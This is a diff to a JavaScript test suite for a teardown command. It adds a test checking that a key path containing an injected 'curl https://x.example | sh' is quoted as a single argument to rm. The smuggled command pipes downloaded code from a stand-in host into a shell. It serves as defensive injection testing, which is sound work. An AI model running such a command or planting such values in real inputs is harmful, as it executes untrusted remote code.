@@ -418,6 +418,14 @@ describe('import-blocks and teardown', () => {
     expect(stand.writes()).toHaveLength(made);
   });
 
+  test('DOC-01: a path of a key is one word of the command that removes it', async () => {
+    const reference = 'file:/keys/a b#c; curl https://x.example | sh';
+    const changed = stand.read('deployment.json').replace('aws-sm:nymgate/prod/calendar/key', reference);
+    stand.write('deployment.json', changed);
+    const { out } = await stand.run('teardown', '--deployment', stand.file('deployment.json'));
+    expect(out).toContain("$ rm -- '/keys/a b#c; curl https://x.example | sh'\n");
+  });
+
   test('--entra wants the name of the environment, then removes the applications; a brought one loses the trust alone', async () => {
     const made = stand.writes().length;
     expect(await stand.admin(DEVELOPER, 'teardown', '--entra', '--yes', 'test')).toMatchObject({ exit: 2 });
